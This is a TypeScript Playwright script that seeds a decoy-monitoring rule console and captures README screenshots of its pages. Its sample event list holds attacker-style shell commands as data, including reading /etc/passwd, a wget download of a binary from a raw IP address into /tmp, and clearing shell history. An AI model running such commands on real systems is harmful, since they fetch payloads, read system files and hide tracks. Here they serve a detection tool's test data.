// README screenshots: `npx tsx e2e/support/screenshots.ts` after a production build (`npm run build`,
// or NEXT_DIST_DIR=<dir> for another build folder). Writes docs/screenshots/*.png, each in the light
// theme (<name>.png) and the dark one (<name>-dark.png, by prefers-color-scheme: dark).
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { chromium, type Page } from "@playwright/test";
import { CHROMIUM_ARGS, CHROMIUM_PATH } from "./chromium";
import { createTempDatabase, prepareDatabase, ROOT, startServer, ttp } from "./app-server";
import { USERS } from "./users";

const OUT = path.join(ROOT, "docs", "screenshots");

async function signIn(page: Page, baseURL: string): Promise<void> {
  await page.goto(`${baseURL}/login`);
  await page.getByLabel("Username").fill(USERS.admin.username);
  await page.getByLabel("Password").fill(USERS.admin.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL(/\/rules/);
}

/** The page as it is, once with prefers-color-scheme light and once dark (the console follows it; Monaco too). */
async function shot(page: Page, name: string): Promise<void> {
  for (const [scheme, file] of [["dark", `${name}-dark.png`], ["light", `${name}.png`]] as const) {
    await page.emulateMedia({ colorScheme: scheme });
    await page.waitForTimeout(300);
    await page.screenshot({ path: path.join(OUT, file) });
  }
}

async function main(): Promise<void> {
  mkdirSync(OUT, { recursive: true });
  const db = createTempDatabase("ttp-shots-");
  await prepareDatabase(db.url);
  const states: [string, string[]][] = [
    ["R1003", ["disabled", "--expires", "2h", "--reason", "noisy after the ls storm on decoy-7"]],
    ["R1005", ["clipped", "--confidence-max", "0.3", "--expires", "45m", "--reason", "admins run netstat here too"]],
    ["R1012", ["disabled", "--expires", "7d", "--reason", "false positives on the CI decoys"]],
    ["R1020", ["clipped", "--confidence-max", "0.5", "--reason", "tuning"]],
  ];
  for (const [id, args] of states) await ttp(db.url, ["state", "set", id, ...args, "--by", "ana"]);
  // Two real workers tag a small batch each and report (then stop) for the Workers page.
  const commands = ["uname -a", "whoami", "cat /etc/passwd", "wget http://45.95.147.236/x86 -O /tmp/x86", "history -c", "ls -la /tmp", "crontab -l", "nproc"];
  const outDir = mkdtempSync(path.join(os.tmpdir(), "ttp-shots-tags-"));
  for (const [w, n] of [["decoy-eu-1", 900], ["decoy-us-2", 400]] as const) {
    const events = Array.from({ length: n }, (_, i) => JSON.stringify({ source_kind: "command", source_id: `${w}_${i}`, payload: { command_text: commands[(i * 7) % commands.length] } })).join("\n");
    await ttp(db.url, ["worker", "--role", "worker", "--id", w, "--report-interval", "100ms", "--out", path.join(outDir, `${w}.jsonl`)], `${events}\n`);
  }
  const server = await startServer({ databaseUrl: db.url, logFile: path.join(os.tmpdir(), "ttp-shots-server.log") });
  const browser = await chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS });
  try {
    const page = await browser.newPage({ viewport: { width: 1500, height: 860 } });
    await signIn(page, server.baseURL);
    await page.getByRole("row").filter({ hasText: "R1001" }).waitFor();
    await shot(page, "rule-list");

    await page.getByRole("row").filter({ hasText: "R1007" }).getByRole("button", { name: "Clip", exact: true }).click();
    await page.getByLabel("Confidence ceiling").fill("0.4");
    await page.getByLabel("Reason").fill("chatty on the build decoys");
    await shot(page, "state-form");
    await page.keyboard.press("Escape");

    await page.goto(`${server.baseURL}/expiring`);
    await page.getByRole("table", { name: "Expiring states" }).waitFor();
    await shot(page, "expiring");

    await page.goto(`${server.baseURL}/rules/R1009`);
    await page.locator(".monaco-editor .view-lines").waitFor({ timeout: 20_000 });
    await page.waitForTimeout(500);
    await page.getByRole("region", { name: "Rule YAML" }).scrollIntoViewIfNeeded();
    await shot(page, "editor");

    // This page edits revision 1 while someone else saves revision 2 (through the CLI): conflict at save.
    await page.evaluate(() => {
      const m = (window as unknown as { monaco: { editor: { getEditors(): { setPosition(p: { lineNumber: number; column: number }): void; focus(): void }[] } } }).monaco;
      const editor = m.editor.getEditors()[0];
      editor?.setPosition({ lineNumber: 1, column: 1 });
      editor?.focus();
    });
    await page.keyboard.type("# reviewed by ana: raise the confidence\n");
    const tmp = mkdtempSync(path.join(os.tmpdir(), "ttp-shots-rules-"));
    const original = readFileSync(path.join(ROOT, "rules/ttp/R1009.yaml"), "utf8");
    writeFileSync(path.join(tmp, "R1009.yaml"), original.replace(/^name: (.*)$/m, "name: $1_v2"));
    await ttp(db.url, ["rules", "import", tmp, "--by", "bob"]);
    await page.waitForTimeout(1500);
    await page.getByRole("button", { name: "Save", exact: true }).click();
    await page.getByRole("dialog").filter({ hasText: /conflict/i }).waitFor({ timeout: 10_000 });
    await shot(page, "conflict");
    await page.getByRole("button", { name: "Reload their version" }).click();

    const history = page.getByRole("region", { name: "History", exact: true });
    await history.scrollIntoViewIfNeeded();
    await history.getByRole("button", { name: "Compare revision 1 with current", exact: true }).click();
    await history.getByRole("region", { name: "Diff revision 1 → current", exact: true }).waitFor();
    await history.scrollIntoViewIfNeeded();
    await shot(page, "history");
    await page.goto(`${server.baseURL}/workers`);
    await page.getByRole("table", { name: "Workers" }).waitFor();
    await shot(page, "workers");

    await page.goto(`${server.baseURL}/users`);
    await page.getByRole("table", { name: "Users" }).waitFor();
    await shot(page, "users");
    console.log(`screenshots written to ${path.relative(process.cwd(), OUT)}`);
  } finally {
    await browser.close();
    await server.stop();
    db.remove();
  }
}

main().catch((err: unknown) => {
  console.error(err);
  process.exit(1);
});
